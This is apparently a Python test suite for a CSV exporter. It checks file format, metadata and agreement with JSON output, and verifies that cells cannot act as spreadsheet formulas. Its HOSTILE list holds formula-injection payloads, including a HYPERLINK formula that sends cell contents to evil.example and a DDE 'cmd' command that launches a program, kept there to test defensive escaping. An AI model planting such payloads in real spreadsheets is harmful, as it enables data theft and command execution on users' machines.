"""CSV: it opens right in a spreadsheet, runs nothing there, and says what the JSON says."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from generator.exports import Edition, exporters
from generator.exports.api import shape
from generator.exports.tables import TABLES
from generator.exports.tables.cells import guarded, lines, written
from generator.library import Library
from generator.project import Project
from generator.records import Actor, Country
from tests.browsing import NODE_MODULES
from tests.conftest import ROOT, gather_edited
from tests.exports.published import whole

BEGINS_FORMULA = tuple("=+-@＝＋－＠")
NEVER_A_NUMBER = {"id", "url", "brief", "statement", "name", "citations", "sources", "links"}
Rows = list[dict[str, str]]


def made(library: Library, site: str = "") -> dict[str, bytes]:
    """Return every file of the format by its name."""
    (csv_,) = (exporter for exporter in exporters() if exporter.name == "CSV")
    found = csv_.exports(Edition(library, site))
    return {export.path.removeprefix("data/"): export.make() for export in found}


def table(content: bytes) -> Rows:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def opened(folder: Path, content: bytes) -> list[list[Any]]:
    """Return a table as a spreadsheet reads it."""
    file = folder / "table.csv"
    file.write_bytes(content)
    program = NODE_MODULES.parent / "sheet.mjs"
    done = subprocess.run(["node", str(program), str(file)], capture_output=True, check=True)
    found: list[list[Any]] = json.loads(done.stdout)
    return found


@pytest.fixture(scope="module")
def real(book: Library) -> dict[str, bytes]:
    return made(book, "https://x.org/")


@pytest.fixture(scope="module")
def published(book: Library) -> shape.Book:
    return whole(Edition(book, "https://x.org/"))


@pytest.fixture(scope="module")
def stated(published: shape.Book) -> dict[str, shape.Statement]:
    return {
        statement.id: statement
        for brief in published.briefs
        if not isinstance(brief, shape.Withdrawn)
        for statement in brief.statements
    }


# The form of the files


@pytest.mark.parametrize("name", [table.name for table in TABLES])
def test_a_table_has_the_form_that_is_documented(real: dict[str, bytes], name: str) -> None:
    content = real[f"{name}.csv"]
    assert content.startswith(b'\xef\xbb\xbf"')
    assert content.endswith(b'"\r\n')
    lines = content.decode("utf-8-sig").split("\r\n")
    assert not any("\n" in line or "\r" in line for line in lines)
    header, *rows = csv.reader(lines[:-1], strict=True)
    assert len(set(header)) == len(header)
    assert all(re.fullmatch("[a-z]+(_[a-z]+)*", column) for column in header)
    assert rows
    assert {len(row) for row in rows} == {len(header)}
    for line in lines[:-1]:
        assert re.fullmatch(r'"([^"]|"")*"(,"([^"]|"")*")*', line)


def test_the_columns_are_described_for_programs(real: dict[str, bytes]) -> None:
    described = json.loads(real["csv-metadata.json"])
    assert {each["url"] for each in described["tables"]} == {
        name for name in real if name.endswith(".csv")
    }
    for each in described["tables"]:
        columns = {column["name"]: column for column in each["tableSchema"]["columns"]}
        rows = table(real[each["url"]])
        assert list(columns) == list(rows[0])
        for row in rows:
            for name, cell in row.items():
                _is(columns[name]["datatype"], cell)
                assert columns[name]["dc:description"]


def _is(datatype: str, cell: str) -> None:
    form = {"date": r"\d{4}-\d\d-\d\d", "integer": r"\d+", "anyURI": r"https://\S+"}
    assert not cell or re.fullmatch(form.get(datatype, ".*"), cell), cell


def test_every_table_is_documented(real: dict[str, bytes]) -> None:
    docs = (ROOT / "docs/api.md").read_text("utf-8")
    for name in real:
        assert f'<a href="data/{name}"><code>data/{name}</code></a>' in docs


# Opened by a spreadsheet


@pytest.mark.parametrize("name", [table.name for table in TABLES])
def test_a_spreadsheet_opens_a_table_with_nothing_lost(
    real: dict[str, bytes], name: str, tmp_path: Path
) -> None:
    header, *rows = opened(tmp_path, real[f"{name}.csv"])
    names = [cell[1] for cell in header]
    written_ = table(real[f"{name}.csv"])
    types = {
        column["name"]: column["datatype"]
        for each in json.loads(real["csv-metadata.json"])["tables"]
        for column in each["tableSchema"]["columns"]
        if each["url"] == f"{name}.csv"
    }
    assert names == list(written_[0])
    assert len(rows) == len(written_)
    for row, before in zip(rows, written_, strict=True):
        cells = dict(zip(names, [*row, *[None] * (len(names) - len(row))], strict=True))
        for column, cell in cells.items():
            text = before[column]
            if cell is None:
                assert text == ""
                continue
            kind, value, formula = cell
            assert formula is None
            if types[column] == "date":
                assert (kind, value) == ("d", f"{text}T00:00:00.000Z")
            elif types[column] == "integer":
                assert (kind, value) == ("n", int(text))
            elif kind == "s" or column in NEVER_A_NUMBER:
                assert (kind, value) == ("s", text)


HOSTILE = [
    "=1+1",
    "+7 727 250 00 00",
    "-5",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    'a";=1+1;"',
    "a;=1+1",
    "a; -5",
    "a\r\n=1+1,",
    '",=1+1,"',
    "\N{NO-BREAK SPACE}=1+1",
]


def test_a_spreadsheet_finds_no_formula(tmp_path: Path) -> None:
    content = written(["first", "second"], lines([cell, cell] for cell in HOSTILE))
    found = [cell for row in opened(tmp_path, content) for cell in row if cell]
    assert not [cell for cell in found if cell[2] is not None]
    assert not [cell for cell in found if str(cell[1]).lstrip().startswith(BEGINS_FORMULA)]


def test_the_reader_would_have_found_formulas(tmp_path: Path) -> None:
    content = '\N{BYTE ORDER MARK}"=1+1"\r\n'.encode()
    assert opened(tmp_path, content) == [[["s", "=1+1", "1+1"]]]


# Any text

TEXT = st.text(
    st.one_of(
        st.sampled_from("=+-@＝＋－＠;,\"' \t\r\n\0a"),
        st.characters(exclude_categories=["Cs"]),
    )
)


@given(TEXT)
@example("=1")
@example("a;\t=1")
@example("\r")
def test_any_text_comes_back_but_for_apostrophes_and_is_no_formula(text: str) -> None:
    (row,) = table(written(["a", "b"], lines([[text, text]])))
    assert row["a"] == row["b"]
    back = row["a"]
    assert back.replace("'", "") == text.replace("'", "")
    assert not back.startswith(("\t", "\r", "\n", "\0"))
    for part in re.split("[;\t\r\n]", back):
        assert not part.lstrip().startswith(BEGINS_FORMULA)


@given(TEXT)
def test_text_without_signs_of_formulas_comes_back_as_it_was(text: str) -> None:
    plain = re.sub(r"[=+\-@＝＋－＠]", "x", text).lstrip("\t\r\n\0")
    (row,) = table(written(["a"], lines([[plain or "x"]])))
    assert row["a"] == (plain or "x")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("-5", "'-5"),
        ("+7 727", "'+7 727"),
        (" =1", "' =1"),
        ("2,500 - 3,000", "2,500 - 3,000"),
        ("e-mail; @handle", "e-mail; '@handle"),
        ("¶6-7", "¶6-7"),
    ],
)
def test_an_apostrophe_stands_before_what_might_be_run(text: str, cell: str) -> None:
    assert guarded(text) == cell


def test_words_of_authors_run_nothing(project: Project, tmp_path: Path) -> None:
    edit = ("value: Руфус Файрфлай", 'value: "=HYPERLINK(1)"')
    found = made(gather_edited(project, "briefs/actors/firefly.yaml", edit).library)
    assert "'=HYPERLINK(1)" in {row["name"] for row in table(found["names.csv"])}
    for name, content in found.items():
        if name.endswith(".csv"):
            cells = [cell for row in opened(tmp_path, content) for cell in row if cell]
            assert not [cell for cell in cells if cell[2] is not None]


# What the tables say


def test_every_statement_is_a_row_that_says_what_the_json_says(
    real: dict[str, bytes], stated: dict[str, shape.Statement]
) -> None:
    rows = table(real["claims.csv"])
    assert [row["id"] for row in rows] == list(stated)
    for row in rows:
        statement = stated[row["id"]]
        assert row["statement"] == guarded(statement.sentence)
        assert row["url"] == statement.url
        cited = [f"{c.source} {c.locators}" for c in statement.citations]
        assert row["citations"] == "; ".join(cited)
        assert row["links"] == "; ".join(statement.links)
        assert row["independent_origins"] == str(statement.independent_origins)
        for name in ("as_of", "date"):
            date: shape.Date | None = getattr(statement, name)
            assert row[name] == (date.edtf if date else "")
            assert row[f"{name}_earliest"] == str((date and date.earliest) or "")
            assert row[f"{name}_latest"] == str((date and date.latest) or "")
        said = statement.according_to
        assert row["according_to"] == (guarded(said.text) if said else "")
        assert row["according_to_briefs"] == ("; ".join(said.briefs) if said else "")
        if statement.judgement:
            assert row["likelihood"] == statement.judgement.likelihood.label
            assert row["likelihood_high"] == str(statement.judgement.likelihood.high)
            assert row["confidence"] == statement.judgement.confidence
        for name in ("role", "section", "label", "kind", "conflict", "verdict"):
            assert row[name] == (getattr(statement, name) or "")


def test_every_paragraph_that_is_cited_is_a_row(real: dict[str, bytes], book: Library) -> None:
    rows = table(real["citations.csv"])
    found = Counter((row["statement"], row["source"], int(row["paragraph"])) for row in rows)
    assert set(found.values()) == {1}
    assert set(found) == {
        (f"{statement.brief}#{statement.anchor}", reference.source, number)
        for statement in book.statements
        for reference in statement.references
        for locator in reference.locators
        for number in locator.paragraphs()
    }


def test_every_name_is_a_row_in_its_own_script(real: dict[str, bytes], book: Library) -> None:
    rows = table(real["names.csv"])
    named: dict[str, Country | Actor] = {**book.countries, **book.actors}
    assert [(row["brief"], row["name"], row["lang"], row["name_kind"]) for row in rows] == [
        (key, name.value, name.lang, name.kind)
        for key, brief in named.items()
        for name in brief.names
    ]
    assert "Қазақстан" in {row["name"] for row in rows}


def test_entries_and_relations_are_rows(
    real: dict[str, bytes], stated: dict[str, shape.Statement]
) -> None:
    entries = table(real["events.csv"])
    assert {row["id"] for row in entries} == {s.id for s in stated.values() if s.role == "entry"}
    days = [row["date_earliest"] for row in entries]
    assert days == sorted(days)
    relations = table(real["relations.csv"])
    assert {row["id"]: (row["type"], row["to"]) for row in relations} == {
        s.id: (s.relation.type, s.relation.to) for s in stated.values() if s.relation
    }


def test_briefs_and_sources_are_rows(real: dict[str, bytes], book: Library) -> None:
    briefs = {row["id"]: row for row in table(real["briefs.csv"])}
    assert set(briefs) == set(book.known)
    for key, event in book.events.items():
        assert briefs[key]["date"] == str(event.date)
        assert briefs[key]["countries"] == "; ".join(event.countries)
    sources = {row["id"]: row for row in table(real["sources.csv"])}
    assert set(sources) == set(book.sources)
    for key, source in book.sources.items():
        assert sources[key]["title"] == source.title
        assert sources[key]["authors"] == "; ".join(author.name for author in source.authors)
        assert sources[key]["statements"] == str(len(book.citing[key]))


def test_a_withdrawn_brief_is_a_row_with_its_status_and_has_no_statements(small: Library) -> None:
    found = made(small)
    (row,) = (row for row in table(found["briefs.csv"]) if row["id"] == "drought")
    assert (row["status"], row["bottom_line"], row["statements"]) == ("withdrawn", "", "")
    assert "drought" not in {row["brief"] for row in table(found["claims.csv"])}


def test_a_site_of_unknown_address_is_left_out(small: Library) -> None:
    (row, *_) = table(made(small)["claims.csv"])
    assert row["url"] == "countries/freedonia.html#bottom-line"
